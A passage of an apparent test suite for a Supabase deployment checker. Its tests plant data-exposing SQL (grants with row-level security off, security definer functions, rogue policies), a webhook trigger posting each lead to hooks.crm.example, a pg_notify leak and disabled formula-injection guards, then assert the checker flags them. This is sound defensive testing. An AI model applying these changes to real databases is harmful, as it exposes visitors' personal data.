      await eventually('PostgREST to serve staff', async () => ((await readWithPublicKey()).status === 200 ? true : undefined));
      expect(await readWithPublicKey()).toEqual({ status: 200, body: [{ customer_email: 'jo@example.com', address: '12 Elm Street' }] });
      const { failed, lines } = await checkDeployment(envFor(site.stack));

      expect(failed, lines.join('\n')).toEqual([
        "FAIL  the API serves no schema but public and graphql_public: it also serves staff (public, staff in all): whatever anon may use there (a table without row-level security, a view that reads as its owner, a policy, a function) is open to anyone with the public key, and no line reads that schema; take it out of the dashboard's Exposed schemas (Data API settings; a setting made with alter role authenticator set pgrst.db_schemas goes with alter role authenticator reset pgrst.db_schemas, then notify pgrst, 'reload config'), and serve what the site needs from public, in a migration",
        // And since the unguarded line reads every schema anon may use (55cfef8), it names the table too.
        "FAIL  every table the API serves has row-level security: the table staff.estimates (the public key may select; a signed-in user may select) is unguarded in a schema other than public and graphql_public, whose usage is granted: any function or view in public that reads it (an invoker one too, as every new function is, callable by PUBLIC) hands it on; revoke the grants and the schema's usage, or turn row-level security on",
      ]);
    } finally {
      await sql(`alter role authenticator reset pgrst.db_schemas; notify pgrst, 'reload config'; drop schema staff cascade`);
      await eventually('PostgREST to serve public only', async () => ((await readWithPublicKey()).status === 406 ? true : undefined));
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it("fails grants on back_office that an invoker function in public hands on: the unsubscribe signing key with row-level security off, and a staff page's policy on the office's e-mail log for whoever signs up, though no line read that schema (session 31)", async () => {
    // A hurried staff page: usage and select granted, a policy for signed-in users (row-level security is on there, so
    // a grant alone shows nothing), and a function in public, invoker as every new one, callable by PUBLIC.
    await sql(`grant usage on schema back_office to anon, authenticated;
               alter table back_office.unsubscribe_signing_key disable row level security;
               grant select on back_office.unsubscribe_signing_key to anon;
               grant select on back_office.outbound_emails to authenticated;
               create policy "staff read the outbox" on back_office.outbound_emails for select to authenticated using (true);
               create function public.outbox() returns setof back_office.outbound_emails language sql stable as $$ select * from back_office.outbound_emails $$;
               create function public.signing_key() returns setof back_office.unsubscribe_signing_key language sql stable as $$ select * from back_office.unsubscribe_signing_key $$;
               notify pgrst, 'reload schema'`);
    try {
      // What the public key is handed: the key that signs every visitor's unsubscribe link.
      const signingKey = await eventually('PostgREST to serve signing_key()', async () => {
        const reply = await fetch(`${site.stack.url}/rest/v1/rpc/signing_key`, { headers: { apikey: site.stack.anonKey, authorization: `Bearer ${site.stack.anonKey}` } });
        return reply.ok ? ((await reply.json()) as unknown[]) : undefined;
      });
      expect(signingKey).toHaveLength(1);
      const { failed, lines } = await checkDeployment(envFor(site.stack));

      expect(failed, lines.join('\n')).toEqual([
        "FAIL  every table the API serves has row-level security: the table back_office.unsubscribe_signing_key (the public key may select) is unguarded in a schema other than public and graphql_public, whose usage is granted: any function or view in public that reads it (an invoker one too, as every new function is, callable by PUBLIC) hands it on; revoke the grants and the schema's usage, or turn row-level security on",
        "FAIL  row-level policies are the migrations' own: back_office.outbound_emails \"staff read the outbox\" (for select to authenticated, using true), which no migration makes: a policy decides what the public key (or whoever signs up) may read and write past every other line's probe; re-make the migrations' policies as they are (supabase db reset on a copy shows them) and drop the others, or make a change in a migration",
      ]);
    } finally {
      await sql(`drop function public.outbox(); drop function public.signing_key();
                 drop policy "staff read the outbox" on back_office.outbound_emails;
                 revoke select on back_office.outbound_emails from authenticated;
                 revoke select on back_office.unsubscribe_signing_key from anon;
                 alter table back_office.unsubscribe_signing_key enable row level security;
                 revoke usage on schema back_office from anon, authenticated;
                 notify pgrst, 'reload schema'`);
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it("fails a table made in extensions, a schema of Supabase's that anon may use and hosted's GraphQL endpoint serves, though every line left Supabase's schemas out whole (session 32)", async () => {
    // As hosted has it: extensions, usable by anon and authenticated, on PostgREST's search path (pg_graphql reflects
    // the search path's schemas: /graphql/v1 serves its tables). The local stack has no such schema, nor pg_graphql:
    // the table is read here through an invoker function in public, as any function the dashboard makes is.
    await sql(`create schema extensions;
               grant usage on schema extensions to anon, authenticated;
               create table extensions.staff_notes (id bigint generated always as identity primary key, customer_email text, note text);
               insert into extensions.staff_notes (customer_email, note) values ('jo@example.com', 'gate code 4411');
               grant select on extensions.staff_notes to anon;
               create function public.staff_notes() returns setof extensions.staff_notes language sql stable as $$ select * from extensions.staff_notes $$;
               notify pgrst, 'reload schema'`);
    try {
      const notes = await eventually('PostgREST to serve staff_notes()', async () => {
        const reply = await fetch(`${site.stack.url}/rest/v1/rpc/staff_notes`, { headers: { apikey: site.stack.anonKey, authorization: `Bearer ${site.stack.anonKey}` } });
        return reply.ok ? ((await reply.json()) as unknown[]) : undefined;
      });
      expect(notes).toEqual([{ id: 1, customer_email: 'jo@example.com', note: 'gate code 4411' }]);
      const { failed, lines } = await checkDeployment(envFor(site.stack));

      expect(failed, lines.join('\n')).toEqual([
        "FAIL  every table the API serves has row-level security: the table extensions.staff_notes (the public key may select) is unguarded in a schema other than public and graphql_public, whose usage is granted: any function or view in public that reads it (an invoker one too, as every new function is, callable by PUBLIC) hands it on, and hosted Supabase's GraphQL endpoint (/graphql/v1) serves a table of extensions to the public key itself; revoke the grants and the schema's usage, or turn row-level security on",
      ]);
    } finally {
      await sql(`drop function public.staff_notes(); drop schema extensions cascade; notify pgrst, 'reload schema'`);
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it("fails a security definer function made in extensions that hands every contact to the public key, through an invoker function in public (and hosted's GraphQL endpoint), though the leaks line left Supabase's schemas out whole (session 32)", async () => {
    await sql(`create schema extensions;
               grant usage on schema extensions to anon, authenticated;
               create function extensions.all_contacts() returns setof public.contacts language sql stable security definer set search_path = '' as 'select * from public.contacts';
               create function public.contact_list() returns setof public.contacts language sql stable as 'select * from extensions.all_contacts()';
               insert into public.contacts (name, email, phone, message) values ('Jo Visitor', 'jo@example.com', '8565550142', 'Kitchen floor');
               notify pgrst, 'reload schema'`);
    try {
      const contacts = await eventually('PostgREST to serve contact_list()', async () => {
        const reply = await fetch(`${site.stack.url}/rest/v1/rpc/contact_list?select=email`, { headers: { apikey: site.stack.anonKey, authorization: `Bearer ${site.stack.anonKey}` } });
        return reply.ok ? ((await reply.json()) as unknown[]) : undefined;
      });
      // Every contact, the visitor's among them (other tests of this stack leave theirs, such as the throttle check's).
      expect(contacts).toContainEqual({ email: 'jo@example.com' });
      const { failed, lines } = await checkDeployment(envFor(site.stack));

      expect(failed, lines.join('\n')).toEqual([
        "FAIL  no view, function, copy or policy hands the public key lead rows: the public key may use the security definer function extensions.all_contacts(): they run past row-level security or around the probe's marked row, so anyone may read what they return; drop them (a copy: or turn its row-level security on; a policy: keep only the migrations' id = private.submission_id_header()), or make the view security_invoker and revoke the function from public and anon",
      ]);
    } finally {
      await sql(`drop function public.contact_list(); drop schema extensions cascade; delete from public.contacts where email = 'jo@example.com'; notify pgrst, 'reload schema'`);
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it("fails a security definer function made in extensions and given to a role the project made, which hands every contact to the public key, though the lines judged only what the lead tables' owner made in Supabase's schemas (session 34)", async () => {
    // A staff role with bypassrls made to own the function ("so it can read the contacts"): the lines left out all but
    // the lead tables' owner's objects in Supabase's schemas, to leave Supabase's own out.
    await sql(`create schema extensions;
               grant usage on schema extensions to anon, authenticated;
               create role staff_reader nologin bypassrls;
               grant usage on schema public to staff_reader;
               grant select on public.contacts to staff_reader;
               create function extensions.all_contacts() returns setof public.contacts language sql stable security definer set search_path = '' as 'select * from public.contacts';
               alter function extensions.all_contacts() owner to staff_reader;
               create function public.contact_list() returns setof public.contacts language sql stable as 'select * from extensions.all_contacts()';
               insert into public.contacts (name, email, phone, message) values ('Jo Visitor', 'jo@example.com', '8565550142', 'Kitchen floor');
               notify pgrst, 'reload schema'`);
    try {
      const contacts = await eventually('PostgREST to serve contact_list()', async () => {
        const reply = await fetch(`${site.stack.url}/rest/v1/rpc/contact_list?select=email`, { headers: { apikey: site.stack.anonKey, authorization: `Bearer ${site.stack.anonKey}` } });
        return reply.ok ? ((await reply.json()) as unknown[]) : undefined;
      });
      expect(contacts).toContainEqual({ email: 'jo@example.com' });
      const { failed, lines } = await checkDeployment(envFor(site.stack));

      expect(failed, lines.join('\n')).toEqual([
        "FAIL  no view, function, copy or policy hands the public key lead rows: the public key may use the security definer function extensions.all_contacts(): they run past row-level security or around the probe's marked row, so anyone may read what they return; drop them (a copy: or turn its row-level security on; a policy: keep only the migrations' id = private.submission_id_header()), or make the view security_invoker and revoke the function from public and anon",
      ]);
    } finally {
      await sql(`drop function public.contact_list(); drop schema extensions cascade; revoke all on public.contacts from staff_reader; revoke all on schema public from staff_reader; drop role staff_reader; delete from public.contacts where email = 'jo@example.com'; notify pgrst, 'reload schema'`);
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it('names each lead table whose rows anon could change or delete, each view, security definer function, copy (in public or another schema anon may use) and policy that hands anon lead rows, a lead table signed-in users may read and a definer function only they may call, a throttle PostgREST is not told to run, and a retention job that does not run', async () => {
    await sql(`grant update (message) on public.contacts to anon;
               grant select on public.realtors to authenticated;
               create policy "staff may read realtors" on public.realtors for select to authenticated using (true);
               -- A staff page's function, kept from anon but granted to signed-in users (session 28).
               create function public.staff_export() returns setof public.contacts language sql stable security definer
                 set search_path = '' as 'select * from public.contacts';
               revoke all on function public.staff_export() from public, anon;
               grant execute on function public.staff_export() to authenticated;
               alter role authenticator reset pgrst.db_pre_request;
               create policy "anyone may change contacts" on public.contacts for update to anon using (true);
               grant delete on public.leads to anon;
               create policy "anyone may delete guide sign-ups" on public.leads for delete to public using (true);
               create view public.recent_investors as select id, name, email from public.investors;
               create view public.investor_count with (security_invoker = true) as select count(*) from public.investors;
               create view public.recent_names as select name from public.recent_investors;
               grant select on public.recent_investors, public.investor_count, public.recent_names to anon;
               create function public.find_contact(address text) returns setof public.contacts language sql stable security definer
                 set search_path = '' as 'select * from public.contacts where email = address';
               grant execute on function public.find_contact(text) to anon;
               -- A copy made in the SQL editor (hosted Supabase's default privileges grant a new public table to anon);
               -- beside it, one guarded by row-level security and one without personal columns, which are not named.
               create table public.leads_backup as select * from public.leads;
               create table public.realtors_archive as select * from public.realtors;
               alter table public.realtors_archive enable row level security;
               create table public.lead_totals as select count(*) as signups from public.leads;
               grant select on public.leads_backup, public.realtors_archive, public.lead_totals to anon;
               -- Outside public, in a schema anon may use (private, for the throttle): a definer function behind an
               -- invoker one in public, a copy behind a security_invoker view in public.
               create function private.all_contacts() returns setof public.contacts language sql stable security definer
                 set search_path = '' as 'select * from public.contacts';
               create function public.contact_list() returns setof public.contacts language sql stable
                 set search_path = '' as 'select * from private.all_contacts()';
               grant execute on function public.contact_list() to anon;
               create table private.guide_copy as select * from public.leads;
               grant select on private.guide_copy to anon;
               create view public.guide_list with (security_invoker = true) as select * from private.guide_copy;
               grant select on public.guide_list to anon;
               -- On the tables, what the marked row cannot show: a policy that hides only the check's fresh row, and
               -- row-level security off with anon given personal columns but not the id the probe asks for.
               create policy "older investors" on public.investors for select to anon using (created_at < now() - interval '1 minute');
               revoke select (id) on public.realtors from anon;
               grant select (name, email) on public.realtors to anon;
               alter table public.realtors disable row level security;`);
    // A schedule the processor made three hours ago that never ran (its job runner stopped taking jobs).
    const [schedule] = await sql<{ known_since: Date; last_execution: Date | null }>(
      `select known_since, last_execution from graphile_worker._private_known_crontabs where identifier = 'enforce_retention'`,
    );
    await sql(`update graphile_worker._private_known_crontabs set known_since = now() - interval '3 hours', last_execution = null where identifier = 'enforce_retention'`);
    try {
      const { code, failed, lines } = await checkDeployment(envFor(site.stack));

      expect(code).toBe(1);
      expect(failed, lines.join('\n')).toEqual([
        "FAIL  public key cannot change or delete lead rows: it may change or delete rows of contacts (update), leads (delete): row-level security off with the grant, or a policy for anon that allows it; anyone could alter or erase visitors' requests",
        // Anon no longer selects realtors' id: the site's insert ... select id is refused, every realtor application fails.
        "FAIL  visitors' inserts store their rows: a visitor's insert, made as the site makes it: realtors: refused (42501: permission denied for table realtors): every visitor's form fails",
        "FAIL  no view, function, copy or policy hands the public key lead rows: the public key may use the view recent_investors (reads a lead table as its owner), the view recent_names (reads a lead table as its owner), the security definer function find_contact(address text), the security definer function private.all_contacts(), the table leads_backup (email), which row-level security does not guard, the table private.guide_copy (email), which row-level security does not guard, the lead table investors (its policy \"older investors\", using (created_at < (now() - '00:01:00'::interval))), which lets it read rows whose id it was not sent, the lead table realtors (row-level security off; anon may select name, email), which lets it read rows whose id it was not sent: they run past row-level security or around the probe's marked row, so anyone may read what they return; drop them (a copy: or turn its row-level security on; a policy: keep only the migrations' id = private.submission_id_header()), or make the view security_invoker and revoke the function from public and anon",
        "FAIL  every table the API serves has row-level security: row-level security is off on lead_totals (the public key may select, insert, update, delete, truncate; a signed-in user may select, insert, update, delete, truncate), leads_backup (the public key may select, insert, update, delete, truncate; a signed-in user may select, insert, update, delete, truncate), realtors (the public key may select, insert; a signed-in user may select): the API serves them to anyone with the public key, who may do all that to every row (a table made in the dashboard's SQL editor, which leaves row-level security off while Supabase grants it to anon and authenticated); turn row-level security on (alter table … enable row level security) in a migration, or revoke the grants; and the view recent_investors (the public key may select, insert, update, delete, truncate; a signed-in user may select, insert, update, delete, truncate), the view recent_names (the public key may select, insert, update, delete, truncate; a signed-in user may select, insert, update, delete, truncate) read as their owner, past row-level security and whatever schema they read from, and the API serves them to anyone with the public key (made in the dashboard's SQL editor, which Supabase grants to anon and authenticated); drop them, make a view security_invoker (alter view … set (security_invoker = true)), or revoke the grants; and the table private.guide_copy (the public key may select) is unguarded in a schema other than public and graphql_public, whose usage is granted: any function or view in public that reads it (an invoker one too, as every new function is, callable by PUBLIC) hands it on; revoke the grants and the schema's usage, or turn row-level security on",
        // Each policy no migration makes (session 30).
        "FAIL  row-level policies are the migrations' own: contacts \"anyone may change contacts\" (for update to anon, using true), which no migration makes; investors \"older investors\" (for select to anon, using created_at < now - '00:01:00'), which no migration makes; leads \"anyone may delete guide sign-ups\" (for delete to public, using true), which no migration makes; realtors \"staff may read realtors\" (for select to authenticated, using true), which no migration makes: a policy decides what the public key (or whoever signs up) may read and write past every other line's probe; re-make the migrations' policies as they are (supabase db reset on a copy shows them) and drop the others, or make a change in a migration",
        "FAIL  signed-in users cannot read, change or delete lead rows: a signed-in user may read, change or delete rows of realtors (read), and call the security definer function staff_export(), which runs as its owner, past row-level security: anyone can sign up with the public key (Supabase Auth takes sign-ups unless they are turned off) and so reach every visitor's name, e-mail and phone; revoke the grant or drop the policy for authenticated, and revoke the function from authenticated (the site has no logins)",
        "FAIL  write throttle runs before every API request: the authenticator role's pgrst.db_pre_request is not set, not private.throttle_anonymous_writes: the lead tables take writes without limit or size check, so a script could fill them and the office's inbox; run alter role authenticator set pgrst.db_pre_request = 'private.throttle_anonymous_writes'; notify pgrst, 'reload config';",
        "FAIL  retention job scheduled and running: enforce_retention (hourly) has not run in the 3.0 h since it was scheduled: is the processor's job runner running?",
      ]);
    } finally {
      await sql(`drop policy "anyone may change contacts" on public.contacts;
                 drop policy "staff may read realtors" on public.realtors;
                 revoke select on public.realtors from authenticated;
                 drop function public.staff_export();
                 alter role authenticator set pgrst.db_pre_request = 'private.throttle_anonymous_writes';
                 revoke update (message) on public.contacts from anon;
                 drop policy "anyone may delete guide sign-ups" on public.leads;
                 revoke delete on public.leads from anon;
                 drop function public.find_contact(text);
                 drop view public.recent_names;
                 drop view public.recent_investors;
                 drop view public.investor_count;
                 drop table public.leads_backup, public.realtors_archive, public.lead_totals;
                 drop function public.contact_list();
                 drop function private.all_contacts();
                 drop view public.guide_list;
                 drop table private.guide_copy;
                 drop policy "older investors" on public.investors;
                 alter table public.realtors enable row level security;
                 revoke select (name, email) on public.realtors from anon;
                 grant select (id) on public.realtors to anon;`);
      await sql(`update graphile_worker._private_known_crontabs set known_since = $1, last_execution = $2 where identifier = 'enforce_retention'`, [
        schedule!.known_since,
        schedule!.last_execution,
      ]);
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it("fails a visitor's insert refused, dropped by a trigger, stored without its e-mails or not read back, though the owner's test lead goes through (red-team, session 22)", async () => {
    await sql(`revoke insert on public.leads from anon;
               create function public.drop_anonymous_rows() returns trigger language plpgsql
                 as 'begin if current_user = ''anon'' then return null; end if; return new; end';
               -- Named to run after the migrations' own row triggers, so their guard against empty inserts is passed.
               create trigger zz_drop_anonymous_realtors before insert on public.realtors for each row execute function public.drop_anonymous_rows();
               drop trigger follow_up_new_investor on public.investors;
               drop policy "a visitor can read back the id of the contact request they submitted" on public.contacts;`);
    try {
      const { code, failed, lines } = await checkDeployment(envFor(site.stack));

      expect(code).toBe(1);
      expect(failed, lines.join('\n')).toEqual([
        // The follow-up trigger dropped is one of the migrations' (session 25).
        expect.stringMatching(/^FAIL {2}database triggers are the migrations' own and fire: trigger follow_up_new_investor on public\.investors \(it queues the office's and the visitor's e-mails\) is not in the database: changed by hand/),
        "FAIL  visitors' inserts store their rows: a visitor's insert, made as the site makes it: contacts: refused (42501: new row violates row-level security policy for table \"contacts\"): every visitor's form fails; leads: refused (42501: permission denied for table leads): every visitor's form fails; realtors: answered no row (a trigger or rule that drops or removes it: the API answers success, the site says the request was sent, and the lead is lost); investors: stored, but it queued 0 e-mail(s) and 0 job(s) (its follow-up trigger dropped?): the office never hears of it",
        // The dropping trigger is none of the migrations' own either (session 23).
        expect.stringMatching(/^FAIL {2}nothing in the database sends leads elsewhere: trigger "zz_drop_anonymous_realtors" on realtors \(runs public\.drop_anonymous_rows\): not made by the checkout's migrations/),
        // The read-back policy dropped is one of the migrations' (session 30; its name as Postgres keeps it, 63 bytes).
        expect.stringMatching(/^FAIL {2}row-level policies are the migrations' own: contacts "a visitor can read back the id of the contact request they subm" is missing: /),
      ]);
    } finally {
      await sql(`grant insert (id, email, lead_source, guide_sent) on public.leads to anon;
                 drop trigger zz_drop_anonymous_realtors on public.realtors;
                 drop function public.drop_anonymous_rows();
                 create trigger follow_up_new_investor after insert on public.investors for each row execute function back_office.follow_up_new_lead();
                 create policy "a visitor can read back the id of the contact request they submitted" on public.contacts
                   for select to anon using (id = private.submission_id_header());`);
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it("fails a column the site sends that anon may not insert, though the columns of session 22's forms go through (session 23)", async () => {
    // The migrations grant anon each column the forms send; one taken back fails every investor form (42501).
    await sql('revoke insert (phone_consent_version) on public.investors from anon');
    try {
      const { code, failed, lines } = await checkDeployment(envFor(site.stack));

      expect(code).toBe(1);
      expect(failed, lines.join('\n')).toEqual([
        "FAIL  visitors' inserts store their rows: a visitor's insert, made as the site makes it: investors: refused (42501: permission denied for table investors): every visitor's form fails",
      ]);
    } finally {
      await sql('grant insert (phone_consent_version) on public.investors to anon');
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it("fails a database webhook and a copying trigger made in the dashboard, which hand each lead on as it arrives (left from session 22)", async () => {
    // A database webhook is a trigger running supabase_functions.http_request (a stub here: the local stack has none).
    await sql(`create schema supabase_functions;
               create function supabase_functions.http_request() returns trigger language plpgsql as 'begin return new; end';
               create trigger crm_webhook after insert on public.contacts for each row
                 execute function supabase_functions.http_request('https://hooks.crm.example/leads', 'POST', '{}', '{}', '1000');
               create table back_office.lead_copies (email text);
               create function back_office.copy_lead() returns trigger language plpgsql security definer set search_path = ''
                 as 'begin insert into back_office.lead_copies (email) values (new.email); return new; end';
               create trigger keep_a_copy after insert on public.leads for each row execute function back_office.copy_lead();`);
    try {
      const { code, failed, lines } = await checkDeployment(envFor(site.stack));

      expect(code).toBe(1);
      expect(failed, lines.join('\n')).toEqual([
        `FAIL  nothing in the database sends leads elsewhere: trigger "crm_webhook" on contacts (runs supabase_functions.http_request: a database webhook, which posts each row to an address), trigger "keep_a_copy" on leads (runs back_office.copy_lead): not made by the checkout's migrations, so each may hand visitors' leads to someone the privacy page does not name (a database webhook or copy made in the dashboard); if it is not the business's, remove it (drop trigger "crm_webhook" on public.contacts;); if it is, put it in a migration of the checkout and name its company on the privacy page`,
      ]);
    } finally {
      await sql(`drop schema supabase_functions cascade;
                 drop trigger keep_a_copy on public.leads;
                 drop function back_office.copy_lead();
                 drop table back_office.lead_copies;`);
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it("fails a lead trigger's function and one of the check's own functions changed by hand, and a migrations' trigger re-made to run another function (red-team, session 24)", async () => {
    const definitionOf = async (fn: string) =>
      (await sql<{ definition: string }>('select pg_get_functiondef($1::regprocedure) as definition', [fn]))[0]!.definition;
    const [followUp, storagePolicies] = [await definitionOf('back_office.follow_up_new_lead()'), await definitionOf('public.deployment_check_storage_policies()')];
    // Every lead also goes to whoever listens on a channel; the check's own question answered "none" whatever is there;
    // and the leads' trigger, under the migrations' name, made to run a function that keeps a copy (and still queues
    // the e-mails, so the inserts line sees nothing wrong).
    await sql(followUp.replace(/\nbegin\n/, "\nbegin\n  perform pg_notify('crm', row_to_json(new)::text);\n"));
    await sql(`create or replace function public.deployment_check_storage_policies() returns json language sql stable security definer set search_path = '' as $$ select '[]'::json $$`);
    await sql(`create table back_office.lead_copies (email text);
               create function back_office.copy_lead() returns trigger language plpgsql security definer set search_path = '' as $$
               begin
                 insert into back_office.lead_copies (email) values (new.email);
                 perform back_office.queue_email('staff_guide', 'leads', new.id, null);
                 perform back_office.queue_email('guide', 'leads', new.id, new.email);
                 return null;
               end $$;
               drop trigger follow_up_new_guide_lead on public.leads;
               create trigger follow_up_new_guide_lead after insert on public.leads for each row execute function back_office.copy_lead();`);
    try {
      const { code, failed, lines } = await checkDeployment(envFor(site.stack));

      expect(code).toBe(1);
      expect(failed, lines.join('\n')).toEqual([
        expect.stringMatching(
          /^FAIL {2}database functions are the migrations' own: back_office\.follow_up_new_lead\(\) has another body than 20261122200002_email_outbox\.sql gives it; public\.deployment_check_storage_policies\(\) has another body than 20261205002000_deployment_check_every_bucket_and_owner_views\.sql gives it: changed by hand, not by a migration of this checkout/,
        ),
        expect.stringMatching(
          /^FAIL {2}database triggers are the migrations' own and fire: trigger follow_up_new_guide_lead on public\.leads \(it queues the office's and the visitor's e-mails\) is "CREATE TRIGGER follow_up_new_guide_lead AFTER INSERT ON public\.leads FOR EACH ROW EXECUTE FUNCTION back_office\.copy_lead\(\)", not as 20261122200002_email_outbox\.sql makes it: changed by hand/,
        ),
        `FAIL  nothing in the database sends leads elsewhere: trigger "follow_up_new_guide_lead" on leads (runs back_office.copy_lead, where the migrations' trigger of that name runs back_office.follow_up_new_lead): not made by the checkout's migrations, so each may hand visitors' leads to someone the privacy page does not name (a database webhook or copy made in the dashboard); if it is not the business's, remove it (drop trigger "follow_up_new_guide_lead" on public.leads;); if it is, put it in a migration of the checkout and name its company on the privacy page`,
      ]);
    } finally {
      await sql(followUp);
      await sql(storagePolicies);
      await sql(`drop trigger follow_up_new_guide_lead on public.leads;
                 create trigger follow_up_new_guide_lead after insert on public.leads for each row execute function back_office.follow_up_new_lead();
                 drop function back_office.copy_lead();
                 drop table back_office.lead_copies;`);
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it("fails a function turned invoker, one turned definer, a search path and an owner changed, triggers disabled, a role set to skip triggers, each by hand with its body left as it was, and an edge function the checkout does not deploy (red-team, session 25)", async () => {
    // Each as the owner would do it in the SQL editor, and each one no other line sees: the check's own question on
    // what sends leads elsewhere run as its caller (as service_role it may not read cron.job); the e-mail queue run
    // as the owner; a text rule run with public first on its search path (a function or operator put there is used
    // instead of pg_catalog's); a function owned by another role; the spreadsheet-safe text switched off on
    // contacts and firing only on a replica on realtors (a visitor's "=HYPERLINK(...)" runs in the office's
    // spreadsheet); and a role set to fire no trigger (one PostgREST does not use: on its authenticator, the stack's
    // next tests would run without triggers).
    await sql(`create role someone_else nologin;
               alter function public.deployment_check_lead_exports() security invoker;
               alter function back_office.queue_email(text, text, uuid, text) security definer;
               alter function private.has_visible_text(text) set search_path = public, pg_catalog;
               alter function private.touch_updated_at() owner to someone_else;
               alter table public.contacts disable trigger contacts_spreadsheet_safe_text;
               alter table public.realtors enable replica trigger realtors_spreadsheet_safe_text;
               alter role someone_else set session_replication_role = replica;`);
    // And an edge function someone deployed with verify_jwt off (the checkout deploys none).
    edgeFunctions = [{ id: '5d1c', slug: 'lead-backup', name: 'lead-backup', status: 'ACTIVE', version: 3, verify_jwt: false }];
    try {
      const { code, failed, lines } = await checkDeployment(envFor(site.stack));

      expect(code).toBe(1);
      expect(failed, lines.join('\n')).toEqual([
        `FAIL  project runs no edge function but the checkout's: project ${PROJECT_REF} runs the edge function lead-backup (verify_jwt off: anyone on the internet may call it), which the checkout does not deploy (it has no supabase/functions/): each runs with the project's secret key, so it may read every lead and hand it to whoever calls it or to a company the privacy page does not name; if it is not the business's, delete it (supabase functions delete lead-backup, or the dashboard's Edge Functions) and rotate the secret key; if it is, put it in supabase/functions/ of the checkout`,
        expect.stringMatching(/^FAIL {2}database functions are the migrations' own: /),
        "FAIL  database triggers are the migrations' own and fire: trigger contacts_spreadsheet_safe_text on public.contacts (it keeps visitors' text from running as a formula in the office's spreadsheet) is disabled (alter table ... disable trigger); trigger realtors_spreadsheet_safe_text on public.realtors (it keeps visitors' text from running as a formula in the office's spreadsheet) fires only on a replica (alter table ... enable replica trigger), never for a visitor's row; role someone_else's sessions are set to session_replication_role = replica, so none of the migrations' triggers fires in them: changed by hand, not by a migration of this checkout; what the migrations make the database do with each visitor's row as it arrives (queue the office's e-mails, refuse a second row of one request, keep text spreadsheet-safe, stamp the phone consent) does not happen, or something no file says does, while every other line sees a trigger of that name; alter table public.contacts enable trigger contacts_spreadsheet_safe_text; alter table public.realtors enable trigger realtors_spreadsheet_safe_text; alter role someone_else reset session_replication_role; and find out who changed it",
      ]);
      const functionsLine = failed.find((line) => line.startsWith("FAIL  database functions are the migrations' own: "));
      for (const problem of [
        'public.deployment_check_lead_exports() runs as its caller (security invoker), where 20261201010001_deployment_check_lead_exports.sql makes it run as its owner (security definer)',
        'back_office.queue_email(text, text, uuid, text) runs as its owner (security definer), where 20261209300000_guide_held_back_said_at_sign_up.sql makes it run as its caller',
        "private.has_visible_text(text) has search_path = public, pg_catalog, where 20261122100030_visitor_text_rules.sql gives it search_path = ''",
        'private.touch_updated_at() is owned by someone_else, not by postgres, who owns the lead tables',
      ]) {
        expect(functionsLine).toContain(problem);
      }
      expect(functionsLine).toContain('give it back (alter function private.touch_updated_at() owner to postgres;)');
    } finally {
      edgeFunctions = [];
      await sql(`alter role someone_else reset session_replication_role;
                 alter table public.realtors enable trigger realtors_spreadsheet_safe_text;
                 alter table public.contacts enable trigger contacts_spreadsheet_safe_text;
                 alter function private.touch_updated_at() owner to postgres;
                 alter function private.has_visible_text(text) set search_path = '';
                 alter function back_office.queue_email(text, text, uuid, text) security invoker;
                 alter function public.deployment_check_lead_exports() security definer;
                 drop role someone_else;`);
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it("fails a PostgREST that does not run the throttle though the authenticator role names it (one that reads no settings from the database)", async () => {
    const throttleRan = async () => {
      const reply = await fetch(`${site.stack.url}/rest/v1/rpc/deployment_check_throttle`, { headers: { apikey: site.stack.serviceRoleKey, authorization: `Bearer ${site.stack.serviceRoleKey}` } });
      return ((await reply.json()) as { ran: boolean }).ran;
    };
    // PostgREST told to drop the setting, then the setting put back without telling it: it runs no pre-request while
    // the catalog names the throttle, as a self-hosted PostgREST with db-config off does.
    await sql(`alter role authenticator reset pgrst.db_pre_request; notify pgrst, 'reload config'`);
    try {
      await eventually('PostgREST to stop running the throttle', async () => ((await throttleRan()) ? undefined : true));
      await sql(`alter role authenticator set pgrst.db_pre_request = 'private.throttle_anonymous_writes'`);
      const { failed, lines } = await checkDeployment(envFor(site.stack));

      expect(failed, lines.join('\n')).toEqual([
        "FAIL  write throttle runs before every API request: the authenticator role's pgrst.db_pre_request is private.throttle_anonymous_writes, but PostgREST did not run it before this request: it does not read its settings from the database (a self-hosted PostgREST with db-config = false, or its own db-pre-request), so the lead tables take writes without limit or size check; set PGRST_DB_CONFIG=true (or PGRST_DB_PRE_REQUEST=private.throttle_anonymous_writes) and restart it",
      ]);
    } finally {
      await sql(`alter role authenticator set pgrst.db_pre_request = 'private.throttle_anonymous_writes'; notify pgrst, 'reload config'`);
      await eventually('PostgREST to run the throttle again', async () => ((await throttleRan()) ? true : undefined));
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it('fails when e-mails to the office of the last day failed, though the e-mail worker is alive (given up, or retried after a failure), and when the retention job failed', async () => {
    // What a worker with a wrong SMTP password leaves: one staff e-mail given up, one queued again after a failed try.
    const leads = await sql<{ id: string }>(
      `insert into back_office.outbound_emails (kind, source_table, source_id, status, status_reason, attempts, last_attempt_at)
       values ('staff_contact', 'contacts', gen_random_uuid(), 'dead', 'Invalid login: 535 Authentication failed', 5, now() - interval '2 hours'),
              ('staff_guide', 'leads', gen_random_uuid(), 'queued', 'Invalid login: 535 Authentication failed', 1, now() - interval '1 minute'),
              ('staff_realtor', 'realtors', gen_random_uuid(), 'sent', null, 1, now())
       returning id`,
    );
    // And a retention run that failed every attempt (kept on the queue with its error; not run again).
    await sql(`select graphile_worker.add_job('enforce_retention', '{}'::json, run_at := now() + interval '1 day', max_attempts := 3, job_key := 'check-deployment-test')`);
    await sql(`update graphile_worker._private_jobs set attempts = 3, last_error = 'permission denied for table contacts' where key = 'check-deployment-test'`);
    try {
      const { code, failed, lines } = await checkDeployment(envFor(site.stack));

      expect(code).toBe(1);
      expect(failed, lines.join('\n')).toEqual([
